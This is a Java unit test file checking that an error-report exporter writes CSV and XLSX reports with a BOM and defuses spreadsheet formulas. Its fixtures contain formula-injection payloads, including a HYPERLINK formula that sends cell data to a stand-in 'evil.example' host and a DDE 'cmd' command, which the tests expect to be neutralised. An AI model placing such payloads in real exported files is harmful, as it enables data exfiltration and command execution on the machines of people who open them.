package cn.chengxin.ingestion.parsing;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class ErrorReportsTests {

    private static final List<RowError> ERRORS = List.of(
            new RowError(2, "身份证号", "ID_CHECKSUM", "身份号码校验码不正确（GB 11643-1999）", "ZX-2025-001",
                    "1101**********002Y"),
            new RowError(3, "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-2", "=cmd|' /C calc'!A0",
                    "-1**4"),
            new RowError(4, "@x", "\tTAB", "\rCR", "+ZX-4", null),
            new RowError(5, "＝SUM(A1)", null, "第一行\n第二行, 含\"引号\"", null, "1101**********002X"),
            new RowError(0, null, "FILE_TOO_MANY_ROWS", "文件的数据行数超过允许的上限"));

    private static final List<List<String>> EXPECTED = List.of(
            List.of("行号", "部门记录编号", "证件号码（脱敏）", "字段", "错误代码", "说明"),
            List.of("2", "ZX-2025-001", "1101**********002Y", "身份证号", "ID_CHECKSUM", "身份号码校验码不正确（GB 11643-1999）"),
            List.of("3", "'=cmd|' /C calc'!A0", "'-1**4", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+1",
                    "'-2"),
            List.of("4", "'+ZX-4", "", "'@x", "'\tTAB", "'\rCR"),
            List.of("5", "", "1101**********002X", "'＝SUM(A1)", "", "第一行\n第二行, 含\"引号\""),
            List.of("", "", "", "", "FILE_TOO_MANY_ROWS", "文件的数据行数超过允许的上限"));

    @Test
    void csvStartsWithABomAndNeutralisesFormulas() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        ErrorReports.writeCsv(out, List.of(), ERRORS);

        byte[] bytes = out.toByteArray();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(csvRows(bytes)).isEqualTo(EXPECTED);
    }

    @Test
    void csvUsesTheGivenColumnTitles() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        ErrorReports.writeCsv(out, List.of("Line", "Source record id", "Identity number (masked)", "Field", "=Code",
                "Message"), ERRORS.subList(0, 1));

        assertThat(csvRows(out.toByteArray()).get(0)).containsExactly("Line", "Source record id",
                "Identity number (masked)", "Field", "'=Code", "Message");
        assertThatIllegalArgumentException().isThrownBy(() -> ErrorReports.writeCsv(out, List.of("行号"), ERRORS));
    }

    @Test
    void xlsxHoldsTheSameTextAndNoFormula() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        ErrorReports.writeXlsx(out, List.of(), ERRORS);

        List<List<String>> rows = new ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            assertThat(workbook.getFirstSheet().getName()).isEqualTo("错误报告");
            for (Row row : workbook.getFirstSheet().read()) {
                List<String> texts = new ArrayList<>();
                for (int c = 0; c < EXPECTED.get(0).size(); c++) {
                    Cell cell = row.getOptionalCell(c).orElse(null);
                    assertThat(cell == null || cell.getType() == CellType.STRING || cell.getType() == CellType.EMPTY)
                            .as("cell %s is text", c).isTrue();
                    assertThat(cell == null ? null : cell.getFormula()).isNull();
                    texts.add(cell == null || cell.getValue() == null ? "" : cell.getValue().toString());
                }
                rows.add(texts);
            }
        }
        assertThat(rows).isEqualTo(EXPECTED);
    }

    @Test
    void leavesTheCallersStreamOpen() {
        ClosingWatcher out = new ClosingWatcher();

        ErrorReports.writeCsv(out, List.of(), ERRORS);
        ErrorReports.writeXlsx(out, List.of(), ERRORS);

        assertThat(out.closed).isFalse();
    }

    private static List<List<String>> csvRows(byte[] bytes) throws IOException {
        try (CSVParser parser = CSVParser.parse(new InputStreamReader(
                new ByteArrayInputStream(bytes, 3, bytes.length - 3), StandardCharsets.UTF_8), CSVFormat.RFC4180)) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }

    private static final class ClosingWatcher extends ByteArrayOutputStream {
        private boolean closed;

        @Override
        public void close() {
            closed = true;
        }
    }
}
